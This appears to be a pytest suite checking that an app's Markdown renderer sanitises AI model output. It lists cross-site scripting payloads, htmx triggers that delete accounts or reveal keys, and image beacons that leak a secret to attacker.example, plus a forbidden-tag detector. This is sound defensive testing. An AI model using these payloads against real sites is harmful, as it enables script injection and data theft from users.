"""Model output renders inert (reliability-security.md §9: MD-1, MD-3, MD-6, MD-9, MD-10)."""

from html.parser import HTMLParser

import pytest

from playground import rendering
from playground.rendering import render_markdown

FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "style",
    "svg",
    "math",
    "base",
    "meta",
    "link",
    "img",
    "video",
    "audio",
    "textarea",
    "button",
}
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<div hx-get="/account/delete" hx-trigger="load">x</div>',
    '<a href="/x" data-hx-post="/keys/reveal">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=/x><input name=a></form>",
    "<svg><style>@import url(//evil)</style></svg>",
    '[x](https://example.com "t\\" onmouseover=alert(1)")',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<scr<script>ipt>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<button hx-post="/api/keys/delete" hx-trigger="load">x</button>',
    "![a](https://attacker.example/p.png?q=SECRET)",
    "<img src=https://attacker.example/p.png?q=SECRET>",
]
CONTEXTS = [
    "{p}",
    "- {p}",
    "| a |\n|---|\n| {p} |",
    "[{p}](https://ok.example)",
    "> {p}",
    "# {p}",
    "```\ncode\n```\n{p}",
    "`{p}`",
    '```html"><script>\n{p}\n```',
]


class Inspector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if (
                name.startswith("on")
                or name.startswith(("hx-", "data-hx"))
                or name in ("style", "srcdoc", "formaction")
            ):
                self.problems.append(f"{tag}[{name}]")
            scheme = value.split(":")[0].lower() if value and ":" in value.split("/")[0] else ""
            if name == "href" and scheme and scheme not in ("http", "https", "mailto"):
                self.problems.append(f"href={value}")
        if tag == "a":
            rel = dict(attrs).get("rel", "") or ""
            if "noopener" not in rel or "noreferrer" not in rel:
                self.problems.append("a without rel=noopener noreferrer")


def problems_in(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    return inspector.problems


@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_renders_inert_in_every_markdown_context(payload, context):
    assert problems_in(str(render_markdown(context.format(p=payload)))) == []


def test_remote_images_become_links_and_are_never_loaded():
    html = str(render_markdown("![chart](https://attacker.example/p.png?q=SECRET)"))
    assert "<img" not in html
    assert '<a href="https://attacker.example/p.png?q=SECRET"' in html and "[image: chart]" in html


def test_code_is_highlighted_and_escaped():
    html = str(render_markdown('```python\nprint("<b>hi</b>")\n```'))
    assert '<span class="hl-nb">print</span>' in html and "&lt;b&gt;" in html


def test_sanitiser_runs_last_on_the_rendered_html(monkeypatch):
    calls = []
    real_sanitize = rendering.sanitize
    monkeypatch.setattr(
        rendering, "sanitize", lambda html: calls.append(html) or real_sanitize(html)
    )
    render_markdown("**bold** <b>x</b>")
    assert calls == ["<p><strong>bold</strong> &lt;b&gt;x&lt;/b&gt;</p>\n"]


def test_sanitiser_is_idempotent():
    once = rendering.sanitize(str(render_markdown("# t\n\n[a](https://x.example) `c`")))
    assert rendering.sanitize(once) == once


def test_huge_output_falls_back_to_escaped_text():
    html = str(render_markdown("<script>" + "a" * 500_000))
    assert html.startswith("<pre>&lt;script&gt;") and "<script>" not in html
